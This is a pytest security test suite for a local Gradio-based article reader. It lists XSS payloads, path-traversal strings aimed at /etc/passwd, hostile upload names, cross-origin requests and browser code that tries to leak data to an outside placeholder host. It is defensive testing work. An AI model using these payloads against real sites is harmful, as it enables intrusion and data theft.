"""Attacks on the whole page: by what stands in articles, by other sites, by raw requests, by sheer number."""

from __future__ import annotations

import gc
import http.client
import json
import re
import shutil
import threading
import time
import urllib.parse
import warnings
from collections import Counter
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from webserver import serving

from models.fake import FakeEmbedder
from models.parser import load_parser
from rag.pipeline import Models, Tearsheet
from rag.settings import Settings
from ui import TEMPORARY, app, guard
from ui.api import open_beside

CHROMIUM = shutil.which("chromium")
ELSEWHERE = "http://203.0.113.9"

ATTACKS = (
    "<img src=x onerror=pwned=1>",
    f"<img src={ELSEWHERE}/a.png>",
    f"![a]({ELSEWHERE}/b.png?q=secret)",
    "<script>pwned=2</script>",
    "<svg onload=pwned=3>",
    f"<style>@import url({ELSEWHERE}/c.css)</style>",
    "[a](javascript:pwned=4)",
    "${pwned=5}",
    "{{pwned=6}}",
    "{{constructor.constructor('pwned=7')()}}",
    "<details open ontoggle=pwned=8>",
    "<input autofocus onfocus=pwned=9>",
    f"<form action={ELSEWHERE}/e><button>",
    "$$\\href{javascript:pwned=10}{x}$$",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/f'>",
    '"onmouseover="pwned=11" \'`<!--',
)
ALL = " ".join(ATTACKS)
SAID = "Twelve people were hurt in the fire at the mill, the police said."
QUESTION = "How many people were hurt in the fire at the mill?"


@dataclass
class Site:
    """The page as served over a library of hostile articles, and every text it has sent."""

    port: int
    tearsheet: Tearsheet
    home: Path
    page: object
    sent: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    @property
    def held(self) -> list[str]:
        return sorted(article.id for article in self.tearsheet.library.articles())

    def send(self, method: str, path: str, body: str | bytes = b"", **headers: str) -> tuple[int, str]:
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        with closing(http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)) as connection:
            connection.request(method, path, body=body, headers=named)
            reply = connection.getresponse()
            text = reply.read().decode("utf-8", "replace")
        # What somebody asks for by its full name may come back in the refusal: that tells nothing.
        if str(self.home) not in urllib.parse.unquote(path):
            self.sent.append(text)
        return reply.status, text

    def post(self, path: str, value: object) -> tuple[int, str]:
        return self.send("POST", path, json.dumps(value), Content_Type="application/json")

    def upload(self, name: str, content: bytes, **headers: str) -> tuple[int, str]:
        edge = "----edge"
        body = (
            f'--{edge}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode() + content
        kind = f"multipart/form-data; boundary={edge}"
        end = f"\r\n--{edge}--\r\n".encode()
        return self.send("POST", guard.UPLOAD, body + end, Content_Type=kind, **headers)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    home = tmp_path_factory.mktemp("home-of-reader")
    fields = {"title": ALL, "source": ALL, "byline": ALL, "url": "javascript:pwned=20", "published": ALL}
    lines = [
        fields | {"id": f"<img src=x onerror=pwned={30 + n}>", "text": f"{SAID}\n\n{attack} {n}.\n\n{ALL}"}
        for n, attack in enumerate(ATTACKS)
    ]
    hostile = home / "x<img src=x onerror=pwned=21>${pwned=22}{{pwned=23}}.jsonl"
    hostile.write_text("\n".join(map(json.dumps, lines)))
    settings = Settings.load(library=home / "library", tier="quote", threads=1)
    models = Models(settings, embedder=FakeEmbedder(), parser=load_parser())
    with Tearsheet.open(settings, write=True, models=models) as opened:
        assert opened.add([hostile]).added == len(ATTACKS)
        page = app.build(opened)
        options = app.launch_options(beside=open_beside(page, opened, mcp=True), blocked=(str(home),))
        port = app.free_port("127.0.0.1", 0)
        guard.private_folder(TEMPORARY)
        page.launch(**options | {"server_port": port, "prevent_thread_lock": True})
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", ResourceWarning)
            gc.collect()
        yield Site(port, opened, home, page)
        page.close(verbose=False)


def fired(site: Site, event: dict, data: list[object]) -> str:
    """Fire an event of the page as a stranger would, past the queue, and return what the server says."""
    given = {"data": data, "fn_index": event["id"], "session_hash": "stranger"}
    while (got := site.post("/gradio_api/run/predict", given))[0] == 429:
        time.sleep(0.5)
    return got[1]


def scanned(site: Site) -> list[str]:
    """Return what the server has sent that names a folder of this machine."""
    folders = (str(site.home.parent), str(TEMPORARY), str(Path.home() / ".cache"), str(Path(__file__).parent))
    return [text[:500] for text in site.sent if any(folder in text for folder in folders)]


# Raw requests


FILE = {"path": "/etc/passwd", "orig_name": "x.md", "meta": {"_type": "gradio.FileData"}}
PAYLOADS = ("/etc/passwd", FILE, [FILE], {"path": "../../../../etc/passwd"}, -1, {"__type__": "update"})


def test_private_events_fired_raw_read_no_file_and_change_nothing(site):
    config = json.loads(site.send("GET", "/config")[1])
    before = site.held
    events = [one for one in config["dependencies"] if one["inputs"]]
    assert len(events) > 5
    for number, event in enumerate(events):
        said = fired(site, event, [PAYLOADS[number % len(PAYLOADS)]] * len(event["inputs"]))
        assert "root:" not in said
        assert "Traceback" not in said
    assert site.held == before
    assert site.send("GET", "/")[0] == 200
    assert scanned(site) == []


TRAVERSALS = (
    "/etc/passwd",
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..\\..\\etc\\passwd",
    "/tearsheet-files/../../../../../../etc/passwd",
    "/tearsheet-files/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "file:///etc/passwd",
    f"{ELSEWHERE}/x",
)


def test_no_route_leads_out_of_its_folder(site):
    paths = {path for path in site.page.app.openapi()["paths"] if "{" in path}
    kept = [f"{site.home}/library/library.db", str(next(site.home.glob("*.jsonl"))), "/proc/self/environ"]
    files = [*TRAVERSALS, *kept]
    assert len(paths) > 10
    for path in sorted(paths | {"/gradio_api/file={path}", "/api/{path}", "/mcp/{path}", "/{path}"}):
        for file in files if ":path" in path or "file" in path else files[:4]:
            aimed = re.sub(r"\{[^}]+\}", lambda _: urllib.parse.quote(file, safe="/%.:\\"), path)  # noqa: B023
            status, text = site.send("GET", aimed)
            assert "root:" not in text, aimed
            assert "SQLite format" not in text, aimed
            assert SAID not in text, aimed
            assert "PATH=" not in text, aimed
            assert status != 500, aimed
    assert scanned(site) == []


def test_other_hosts_and_origins_are_refused_on_every_kind_of_route(site):
    before = site.held
    for path in ("/", "/config", "/gradio_api/info", "/gradio_api/queue/data", "/api/openapi.json", "/mcp"):
        assert site.send("GET", path, Host="evil.example")[0] == 400
        assert site.send("GET", path, Host=f"evil.example:{site.port}")[0] == 400
        assert site.send("GET", path, Origin="http://evil.example")[0] == 403
    added = json.dumps({"text": "Planted by another site."})
    for kind in ("application/json", "text/plain", "application/x-www-form-urlencoded"):
        for origin in ("http://evil.example", "null", f"http://localhost:{site.port + 1}"):
            got = site.send("POST", "/api/add", added, Content_Type=kind, Origin=origin)
            assert got[0] == 403
    rebound = site.send("POST", "/api/add", added, Content_Type="application/json", Host="evil.example")
    assert (rebound[0], site.held) == (400, before)


def test_an_upload_is_bounded_closed_to_other_sites_and_stays_in_its_folder(site):
    assert site.upload("a.md", b"text", Origin="http://evil.example")[0] == 403
    assert site.upload("a.md", b"text", Sec_Fetch_Site="cross-site")[0] == 403
    assert site.upload("large.md", b"x" * (guard.MAX_FILE + 1))[0] == 413
    outside = set(TEMPORARY.parent.iterdir())
    for name in ("../../../../pwned.md", "..\\..\\pwned.md", "/etc/pwned.md", "a.md\x00.exe", "C:/pwned.md"):
        status, said = site.upload(name, b"text of the article")
        assert status in {200, 400}
        if status == 200:
            (path,) = json.loads(said)
            assert path.startswith("/tearsheet-files/")
            assert site.send("GET", f"/gradio_api/file={path}") == (200, "text of the article")
    assert set(TEMPORARY.parent.iterdir()) == outside
    assert not Path("/etc/pwned.md").exists()
    assert scanned(site) == []


def test_an_uploaded_page_is_never_shown_as_a_page(site):
    (path,) = json.loads(site.upload("a.html", b"<script>pwned=40</script>")[1])
    with closing(http.client.HTTPConnection("127.0.0.1", site.port, timeout=20)) as connection:
        connection.request("GET", f"/gradio_api/file={path}")
        reply = connection.getresponse()
        sent = {name.lower(): value for name, value in reply.getheaders()}
    assert "html" not in sent["content-type"]
    assert sent["content-disposition"].startswith("attachment")
    assert sent["x-content-type-options"] == "nosniff"


def test_a_thousand_requests_at_once_leave_the_server_alive(site):
    statuses: Counter[int] = Counter()

    def flood(worker: int) -> None:
        for n in range(50):
            if n % 3 == 0:
                statuses[site.send("GET", "/gradio_api/info" if n % 2 else "/")[0]] += 1
            elif n % 3 == 1:
                statuses[site.post("/api/search", {"query": 7})[0]] += 1
            else:
                statuses[site.post("/gradio_api/queue/join", {"data": [], "fn_index": 10_000})[0]] += 1

    threads = [threading.Thread(target=flood, args=(worker,)) for worker in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert statuses.total() == 1000
    assert statuses[200] >= 340
    began = time.monotonic()
    assert site.send("GET", "/")[0] == 200
    assert time.monotonic() - began < 3


# In a real browser


@pytest.fixture(scope="module")
def browser(site):
    sync_api = pytest.importorskip("playwright.sync_api")
    if CHROMIUM is None:
        pytest.skip("Chromium is not installed (Debian package chromium)")
    # What the flood used up comes back by the second.
    time.sleep(3)
    with sync_api.sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield running
        running.close()


@pytest.fixture
def watched(site, browser):
    """A page whose every wish beyond this machine, error and dialogue is noted."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(15_000)
    page = context.new_page()
    page.wanted, page.problems = [], []
    context.on("request", lambda request: page.wanted.append(request.url))
    page.on("dialog", lambda dialog: page.problems.append(dialog.message))
    page.on("pageerror", lambda error: page.problems.append(str(error)))
    page.goto(site.url)
    yield page
    context.close()


def strayed(page, site: Site) -> list[str]:
    return [url for url in page.wanted if not url.startswith((site.url, "data:", "blob:", "about:"))]


@pytest.mark.browser
def test_hostile_articles_do_nothing_on_any_tab(site, watched):
    from playwright.sync_api import expect

    for question in (QUESTION, f"{QUESTION} {ALL}"[:400]):
        watched.get_by_role("textbox", name="Your question").fill(question)
        watched.get_by_role("textbox", name="Your question").press("Enter")
        expect(watched.locator("#answers")).to_contain_text(question[:60])
        expect(watched.locator(".ts-busy")).to_have_count(0, timeout=30_000)
    expect(watched.locator("#sources")).to_contain_text("onerror=pwned=1")
    for tab in watched.get_by_role("tab").all():
        tab.click()
        watched.wait_for_timeout(700)
        for choice in watched.locator("#lib-list label:visible").all()[:2]:
            choice.click()
            watched.wait_for_timeout(500)
        watched.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
        watched.wait_for_timeout(200)
    assert watched.evaluate("typeof window.pwned") == "undefined"
    assert (strayed(watched, site), watched.problems) == ([], [])
    hostile = "img[src='x'], svg[onload], [onerror], [ontoggle], [onfocus], meta[http-equiv=refresh]"
    assert watched.locator(f"body :is({hostile})").count() == 0


@pytest.mark.browser
def test_even_markup_that_got_through_could_not_load_or_run_anything(site, watched):
    """The second wall, tried by itself: what the policy forbids is refused when it stands in the page."""
    blocked = watched.evaluate(
        """async () => {
            const seen = [];
            const note = one => seen.push(one.effectiveDirective);
            document.addEventListener("securitypolicyviolation", note);
            const add = (tag, named) => {
                document.body.append(Object.assign(document.createElement(tag), named));
            };
            add("img", {src: "http://203.0.113.9/leak?secret"});
            add("iframe", {src: "http://203.0.113.9/"});
            add("script", {src: "http://203.0.113.9/x.js"});
            add("link", {rel: "stylesheet", href: "http://203.0.113.9/x.css"});
            await fetch("http://203.0.113.9/").catch(() => 0);
            await new Promise(done => setTimeout(done, 300));
            return seen;
        }"""
    )
    wanted = {"img-src", "frame-src", "script-src-elem", "style-src-elem", "connect-src"}
    assert wanted - set(blocked) == set()


@pytest.mark.browser
def test_another_site_in_the_same_browser_can_neither_write_nor_frame_nor_read(site, browser):
    before = site.held
    with serving() as other:
        address = other.says("/", "<h1>evil</h1><iframe id=f></iframe>")
        context = browser.new_context()
        page = context.new_page()
        page.goto(address)
        got = page.evaluate(
            """async url => {
                const said = [];
                const send = (path, given) => fetch(url + path, given).then(
                    one => said.push(one.type + one.status), () => said.push("refused"));
                const body = JSON.stringify({text: "Planted by another site.", title: "evil"});
                await send("api/add", {method: "POST", body, mode: "no-cors"});
                await send("api/add", {method: "POST", body, headers: {"Content-Type": "application/json"}});
                const form = new FormData();
                form.append("files", new Blob(["evil"]), "evil.md");
                await send("gradio_api/upload", {method: "POST", body: form, mode: "no-cors"});
                await send("gradio_api/queue/join", {method: "POST", body, mode: "no-cors"});
                await send("config", {});
                await send("mcp", {method: "POST", body, mode: "no-cors"});
                return said;
            }""",
            site.url,
        )
        page.evaluate("url => { document.getElementById('f').src = url }", site.url)
        page.wait_for_timeout(700)
        framed = page.frames[1].evaluate("document.documentElement.innerHTML")
        context.close()
    assert set(got) <= {"refused", "opaque0", "cors403"}
    assert "gradio" not in framed
    assert site.held == before


@pytest.mark.browser
def test_nothing_the_browser_receives_names_a_folder(site, watched):
    received: list[str] = []
    watched.on("response", lambda one: received.append(one.url))
    watched.reload()
    watched.get_by_role("textbox", name="Your question").fill(QUESTION)
    watched.get_by_role("textbox", name="Your question").press("Enter")
    watched.locator("#answers h2").first.wait_for()
    watched.wait_for_timeout(1500)
    site.sent.append(watched.content())
    site.sent.extend(received)
    for path in ("/", "/config", "/gradio_api/info", "/theme.css", "/manifest.json", "/api/openapi.json"):
        site.send("GET", path)
    assert scanned(site) == []
